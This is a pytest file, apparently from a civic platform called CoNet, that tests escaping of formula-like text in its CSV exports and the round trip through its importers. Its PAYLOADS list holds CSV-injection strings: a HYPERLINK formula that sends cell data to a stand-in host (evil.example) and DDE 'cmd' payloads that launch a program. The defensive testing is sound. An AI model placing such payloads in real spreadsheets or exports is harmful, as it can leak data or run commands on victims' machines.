"""Every CSV that CoNet writes defuses text a spreadsheet would run as a formula (CSV injection),
and CoNet's importers read such a cell back unchanged."""

import csv
import io

import pytest

from conet.actionplans import exports as plan_exports
from conet.consultations import polis
from conet.core.spreadsheet import read_cell, safe_cell
from conet.practices import imports as practice_imports
from tests.factories import (
    ActionFactory,
    AreaFactory,
    AreaLevelFactory,
    ConsultationFactory,
    IndicatorFactory,
    LocalActionPlanFactory,
    ObjectiveFactory,
    ParticipantFactory,
    StatementFactory,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_like_a_formula_is_written_as_text_and_read_back(payload):
    assert safe_cell(payload) == "'" + payload
    assert read_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize("value", [-1, 0, 2.5, "plain text", "'quoted by its author", "a=b", ""])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert read_cell(value) == value


def test_plan_actions_and_indicators_csv(network, city):
    from conet.networks.models import Partnership

    plan = LocalActionPlanFactory(partnership=Partnership.objects.get(network=network, city=city))
    objective = ObjectiveFactory(plan=plan, number=1)
    ActionFactory(plan=plan, title=PAYLOADS[0], lead=PAYLOADS[1], risks=PAYLOADS[3])
    IndicatorFactory(objective=objective, definition=PAYLOADS[2], source=PAYLOADS[3])
    actions = _rows(plan_exports.actions_csv(plan.actions.all()))
    title, lead = actions[0].index("title"), actions[0].index("lead")
    assert actions[1][title] == "'" + PAYLOADS[0]
    assert actions[1][lead] == "'" + PAYLOADS[1]
    indicators = _rows(plan_exports.indicators_csv(plan.objectives.all()))
    definition = indicators[0].index("definition")
    assert indicators[1][definition] == "'" + PAYLOADS[2]
    # The export imports again as it was.
    parsed = plan_exports.read_actions(plan, plan_exports.actions_csv(plan.actions.all()))
    assert parsed.errors == []
    assert parsed.rows[0]["title"] == PAYLOADS[0]
    assert parsed.rows[0]["lead"] == PAYLOADS[1]


def test_polis_comments_csv_and_its_import(city, people, tmp_path):
    consultation = ConsultationFactory(city=city, slug="formulas")
    statement = StatementFactory(consultation=consultation, number=0, text=PAYLOADS[0])
    voter = ParticipantFactory(consultation=consultation)
    from conet.consultations.models import Vote

    Vote.objects.create(participant=voter, statement=statement, value=-1)
    files = polis.export_files(consultation)
    comments = _rows(files["comments.csv"])
    assert comments[1][7] == "'" + PAYLOADS[0]
    assert _rows(files["votes.csv"])[1][4] == "-1"  # a number, not text
    polis.write_folder(consultation, tmp_path)
    imported = polis.import_folder(tmp_path, city=city, slug="again", by=people["platform_admin"])
    assert imported.statements.get().text == PAYLOADS[0]


def test_monitoring_areas_csv(city, client):
    level = AreaLevelFactory(city=city)
    AreaFactory(city=city, level=level, code="A1", name=PAYLOADS[1])
    response = client.get(f"/en/cities/{city.slug}/monitoring/export/areas.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert _rows(text)[1][1] == "'" + PAYLOADS[1]


def test_practices_csv_export_and_import(db):
    from conet.practices.models import GoodPractice

    practice = GoodPractice.objects.create(
        name=PAYLOADS[0], slug="formula", summary=PAYLOADS[3], city_name="Palermo",
        country="Italy", description="A practice",
    )  # fmt: skip
    text = practice_imports.to_csv([practice])
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + PAYLOADS[0]
    _columns, records = practice_imports.parse_text(text, "csv")
    assert records[0]["name"] == PAYLOADS[0]
